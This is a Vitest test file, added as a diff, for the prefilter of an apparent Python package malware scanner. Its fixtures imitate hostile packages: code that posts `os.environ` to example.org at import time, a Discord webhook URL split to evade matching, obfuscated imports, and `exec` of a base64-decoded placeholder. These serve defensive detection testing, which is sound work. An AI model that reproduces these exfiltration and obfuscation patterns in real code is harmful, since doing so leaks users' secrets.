@@ -1,0 +1,132 @@
+/**
+ * The prefilter decides how much of a module to analyse. Skipping must never hide a threat (the
+ * rule tests and test/corpus compare results with and without it); these cases pin down the
+ * decisions themselves, network use at import time above all, which it judges from indentation.
+ */
+import { describe, expect, it } from 'vitest';
+import { scan } from './testing.js';
+import { parseMode, relevantRanges } from './prefilter.js';
+
+const lines = (...l: string[]): string => l.join('\n') + '\n';
+
+describe('parseMode', () => {
+  it('skips a module with nothing any rule looks for', () => {
+    expect(parseMode(lines('import math', 'def area(r):', '    return math.pi * r * r'))).toBe('skip');
+  });
+
+  it('parses fully what mentions a threat word', () => {
+    expect(parseMode(lines('import base64', 'x = base64.b64decode(y)'))).toBe('full');
+    expect(parseMode(lines("URL = 'https://discord.com/api/webhooks/1/x'"))).toBe('full');
+  });
+
+  it('skips network use that happens only inside functions', () => {
+    const src = lines(
+      'import requests as rq',
+      'from urllib.request import urlopen',
+      'class Client:',
+      '    """A client.',
+      '',
+      'def example():',
+      '    return 1',
+      '"""',
+      '    def fetch(self, url):',
+      '        return rq.get(url)',
+      'def load(url):',
+      '    with urlopen(url) as r:',
+      '        return r.read()',
+    );
+    expect(parseMode(src)).toBe('skip');
+  });
+
+  it('analyses the module level of network use on import', () => {
+    expect(parseMode(lines('import requests', "requests.get('https://example.org/ping')"))).toBe('shallow');
+    expect(parseMode(lines('import socket', 'try:', "    socket.gethostbyname('x.example.invalid')", 'except OSError:', '    pass'))).toBe('shallow');
+    expect(parseMode(lines('import requests', 'class Probe:', "    r = requests.get('https://example.org/')"))).toBe('shallow');
+    // A default value runs when the def runs, at import.
+    expect(parseMode(lines('import requests', 'def f(', "    x=requests.get('https://example.org/'),", '):', '    return x'))).toBe('shallow');
+  });
+
+  it('parses fully when a download could be started, or a star import hides which names are network calls', () => {
+    expect(parseMode(lines('import requests, subprocess', 'def f(u):', '    subprocess.run([requests.get(u).text])'))).toBe('full');
+    expect(parseMode(lines('from socket import *', 'def f():', '    pass'))).toBe('full');
+  });
+
+  it('keeps the module level of a module that runs an imported function on import', () => {
+    expect(parseMode(lines('from .grabber import collect', 'collect()'))).toBe('shallow');
+  });
+
+  it('glues split string literals before looking', () => {
+    expect(parseMode(lines("HOOK = 'https://disc' 'ord.com/api/webhooks/1/x'"))).toBe('full');
+    expect(parseMode(lines("HOOK = 'https://disc' + \\", "    'ord.com/api/webhooks/1/x'"))).toBe('full');
+    expect(parseMode(lines("m = __import__('o' + 's')"))).toBe('full');
+  });
+});
+
+describe('relevantRanges', () => {
+  const filler = Array.from({ length: 300 }, (_, i) => lines(`@decorate(${i})`, `def helper_${i}(x, y=(1, 2)):`, '    """Adds things."""', `    return x + y[0] + ${i}  # (not a bracket`, '')).join('');
+
+  it('keeps module-level code, and the functions that could matter or reach one', () => {
+    const src = lines('import os, requests', "'''A module.", 'def not_code(): pass', "'''") + filler +
+      lines('def runner():', '    return payload()', '', 'def payload():', "    return requests.post('https://example.org', data=dict(os.environ))", '', 'x = helper_3(1)');
+    const ranges = relevantRanges(src)!;
+    expect(ranges).toBeDefined();
+    const kept = ranges.map((r) => src.slice(r.startIndex, r.endIndex)).join('');
+    expect(kept).toContain('import os, requests');
+    expect(kept).toContain('def payload():');
+    expect(kept).toContain('def runner():');
+    expect(kept).toContain('x = helper_3(1)');
+    expect(kept).not.toContain('def helper_7(');
+  });
+
+  it('parses small modules whole', () => {
+    expect(relevantRanges(lines('import os', 'def f():', '    pass'))).toBeUndefined();
+  });
+});
+
+describe('partial parsing changes no result', () => {
+  it('finds the same threats, phases and score in a big module as a whole parse', async () => {
+    const filler = Array.from({ length: 300 }, (_, i) => lines(`def helper_${i}(x):`, `    return [x, ${i}] * 2`, '')).join('');
+    const src =
+      lines('import base64, os, requests') +
+      filler +
+      lines(
+        'def runner():',
+        '    send()',
+        '',
+        'def send():',
+        "    requests.post('https://example.org/c', data=dict(os.environ))",
+        "    exec(base64.b64decode('cHJpbnQoJ3BsYWNlaG9sZGVyJyk='))",
+        '',
+        'runner()',
+      );
+    const on = await scan({ 'demo/__init__.py': src }, 'wheel');
+    const off = await scan({ 'demo/__init__.py': src }, 'wheel', undefined, { prefilter: false });
+    const threats = (r: typeof on): string[] => r.findings.filter((f) => f.severity !== 'low').map((f) => `${f.rule}:${f.line}:${f.phase}`).sort();
+    expect(threats(on)).toEqual(threats(off));
+    expect(threats(on)).toContain('exec-decoded:907:import');
+    expect(on.score).toBe(off.score);
+  });
+});
+
+describe('partial parsing of classes', () => {
+  it('keeps the one method of a big class that matters, with the same result as a whole parse', async () => {
+    const methods = Array.from({ length: 200 }, (_, i) => lines(`    def op_${i}(self, x):`, `        """Operation ${i}."""`, `        return self.call('op_${i}', x)`, '')).join('');
+    const src =
+      lines('import os, requests', '', '@register', 'class Client(Base):', '    """A generated client."""', '    timeout = 30', '') +
+      methods +
+      lines('    def report(self):', "        return requests.post('https://example.org/c', data=dict(os.environ))", '', 'CLIENT = Client()');
+    const ranges = relevantRanges(src)!;
+    const kept = ranges.map((r) => src.slice(r.startIndex, r.endIndex)).join('');
+    expect(kept).toContain('class Client(Base):');
+    expect(kept).toContain('timeout = 30');
+    expect(kept).toContain('def report(self):');
+    expect(kept).not.toContain('def op_7(');
+    const on = await scan({ 'demo/__init__.py': src }, 'wheel');
+    const off = await scan({ 'demo/__init__.py': src }, 'wheel', undefined, { prefilter: false });
+    const threats = (r: typeof on): string[] => r.findings.filter((f) => f.severity !== 'low').map((f) => `${f.rule}:${f.line}:${f.phase}`).sort();
+    expect(threats(on)).toEqual(threats(off));
+    expect(threats(on).length).toBeGreaterThan(0);
+    expect(on.score).toBe(off.score);
+    expect(on.stats.parseErrors).toBe(0);
+  });
+});
